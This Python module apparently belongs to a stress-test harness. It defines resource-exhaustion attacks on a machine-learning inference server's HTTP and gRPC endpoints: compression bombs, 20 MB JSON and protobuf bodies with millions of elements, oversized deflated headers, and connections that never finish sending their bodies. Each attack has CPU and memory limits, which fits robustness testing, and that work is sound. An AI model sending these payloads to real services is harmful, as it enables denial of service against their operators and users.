"""Requests whose content costs more than its bytes: documents with many elements, compression, large headers."""

import contextlib
import gzip
import json
import struct
import zlib

from attack.connection import GRPC_INFER, Http1Peer, Http2Peer
from attack.registry import GRPC, HTTP1, HTTP2, Limits, attack
from attack.target import Target

_INFER = "/v2/models/floats/infer"
_JSON = {"content-type": "application/json", "content-encoding": "deflate"}


def _deflated_inputs(count: int) -> bytes:
    return zlib.compress(b'{"inputs":[' + b"{}," * (count - 1) + b"{}]}", 9)


@attack(HTTP1, HTTP2, limits=Limits(cpu_s=3.0))
def deflated_empty_inputs(target: Target) -> None:
    """Deflated `{"inputs":[{},{},...]}` with a million elements in 3 KB.

    In the long form the last request has twenty times as many.
    """
    bodies = [_deflated_inputs(1_000_000)] * target.count(20)
    if not target.is_short:
        bodies.append(_deflated_inputs(20_000_000))
    for body in bodies:
        if target.is_time_over:
            return
        with target.peer() as peer:
            peer.request(_INFER, body, _JSON)


@attack(GRPC, limits=Limits(cpu_s=3.0))
def gzip_empty_inputs(target: Target) -> None:
    """Gzip of a million empty inputs in 2 KB of a gRPC message."""
    message = gzip.compress(_model("floats") + b"\x2a\x00" * 1_000_000, 9)
    for _ in target.rounds(20):
        with target.http2() as peer:
            peer.call(GRPC_INFER, message, encoding="gzip")


def _model(name: str) -> bytes:
    return b"\x0a" + bytes((len(name),)) + name.encode()


def _varint(number: int) -> bytes:
    encoded = bytearray()
    while number >= 128:
        encoded.append(number & 127 | 128)
        number >>= 7
    encoded.append(number)
    return bytes(encoded)


def _field(number: int, content: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(content)) + content


@attack(GRPC, limits=Limits(cpu_s=20.0, peak_mib=600.0))
def typed_strings(target: Target) -> None:
    """Three million strings in `bytes_contents`, 15 MB: legal, and much work. A third of them in the short form."""
    count = 1_000_000 if target.is_short else 3_000_000
    shape = _varint(1) + _varint(count)
    contents = (_varint(8 << 3 | 2) + b"\x03abc") * count
    tensor = _field(1, b"INPUT0") + _field(2, b"BYTES") + _field(3, shape) + _field(5, contents)
    message = _model("texts") + _field(5, tensor)
    for _ in target.rounds(3):
        with target.http2() as peer:
            peer.call(GRPC_INFER, message)


@attack(GRPC, limits=Limits(cpu_s=20.0, peak_mib=400.0))
def empty_typed_strings(target: Target) -> None:
    """Two million empty strings in `bytes_contents`, 4 MB: two bytes each. Half of them in the short form."""
    count = 1_000_000 if target.is_short else 2_000_000
    shape = _varint(1) + _varint(count)
    tensor = _field(1, b"INPUT0") + _field(2, b"BYTES") + _field(3, shape) + _field(5, b"\x42\x00" * count)
    message = _model("texts") + _field(5, tensor)
    for _ in target.rounds(3):
        with target.http2() as peer:
            peer.call(GRPC_INFER, message)


@attack(HTTP1, HTTP2, limits=Limits(cpu_s=20.0, peak_mib=400.0))
def long_json_arrays(target: Target) -> None:
    """JSON of 20 MB: strings, nested empty arrays, NaN, one number of 20 MB, brackets that never close."""
    count = target.count(4_000_000)
    documents = [
        ("texts", b'"BYTES","shape":[%d],"data":[%s"abc"]}]}' % (count, b'"abc",' * (count - 1))),
        ("floats", b'"FP32","shape":[0],"data":[%s[]]}]}' % (b"[]," * (2 * count))),
        ("floats", b'"FP32","shape":[%d],"data":[%sNaN]}]}' % (count, b"NaN," * (count - 1))),
        ("floats", b'"FP32","shape":[1],"data":[%s]}]}' % (b"1" * (5 * count))),
        ("floats", b'"FP32","shape":[1],"data":' + b"[" * (5 * count)),
    ]
    for model, rest in documents:
        if target.is_time_over:
            return
        with target.peer() as peer:
            body = b'{"inputs":[{"name":"INPUT0","datatype":' + rest
            peer.request(f"/v2/models/{model}/infer", body, {"content-type": "application/json"})


@attack(HTTP1, HTTP2, limits=Limits(cpu_s=3.0, peak_mib=200.0))
def long_control_documents(target: Target) -> None:
    """Bodies of 20 MB with a million members for the settings, the index and a registration of shared memory."""
    members = b",".join(b'"%d":[]' % number for number in range(target.count(1_500_000)))
    for path in (
        "/v2/trace/setting",
        "/v2/logging",
        "/v2/repository/index",
        "/v2/systemsharedmemory/region/x/register",
    ):
        if target.is_time_over:
            return
        with target.peer() as peer:
            peer.request(path, b"{" + members + b"}", {"content-type": "application/json"})


@attack(GRPC, limits=Limits(cpu_s=5.0, peak_mib=200.0))
def many_fields(target: Target) -> None:
    """Messages of 20 MB that are nothing but empty inputs, outputs, raw contents or parameters."""
    count = target.count(10_000_000)
    for field in (b"\x2a\x00", b"\x32\x00", b"\x3a\x00", b"\x22\x00"):
        if target.is_time_over:
            return
        with target.http2() as peer:
            peer.call(GRPC_INFER, _model("floats") + field * count)


@attack(HTTP1, HTTP2, limits=Limits(cpu_s=10.0, peak_mib=200.0))
def refused_json_headers(target: Target) -> None:
    """Twelve refused requests with different large JSON headers, 20 KB each when deflated."""
    for number in range(12):
        if target.is_time_over:
            return
        header = json.dumps({"inputs": [], "parameters": {f"p{number}": "x" * 20_000_000}}).encode()
        fields = {
            "content-encoding": "deflate",
            "content-type": "application/octet-stream",
            "inference-header-content-length": str(len(header)),
        }
        with target.peer() as peer:
            peer.request(_INFER, zlib.compress(header, 9), fields)


@attack(HTTP1, HTTP2, GRPC, limits=Limits(cpu_s=5.0))
def unknown_model_bodies(target: Target) -> None:
    """Fifteen connections that send large bodies for a model that does not exist, and never end them."""
    size = target.count(64_000_000)
    with contextlib.ExitStack() as open_connections:
        for _ in range(15):
            if target.is_time_over:
                return
            _begin_body(open_connections.enter_context(target.peer()), size)


def _begin_body(peer: Http1Peer | Http2Peer, size: int) -> None:
    path = "/v2/models/unknown/infer"
    if isinstance(peer, Http1Peer):
        peer.send(peer.head(path, {"content-length": str(size + 1)}))
        peer.wait(0.05)
        for _ in range(size // 100_000):
            if not peer.send(bytes(100_000)):
                return
        return
    stream_id, head = peer.open_stream(GRPC_INFER if peer.is_grpc else path)
    peer.send(head)
    body = struct.pack(">BI", 0, size) + _model("unknown") if peer.is_grpc else b""
    peer.send_body(stream_id, body + bytes(size - len(body)), ends=False, most_s=5.0)
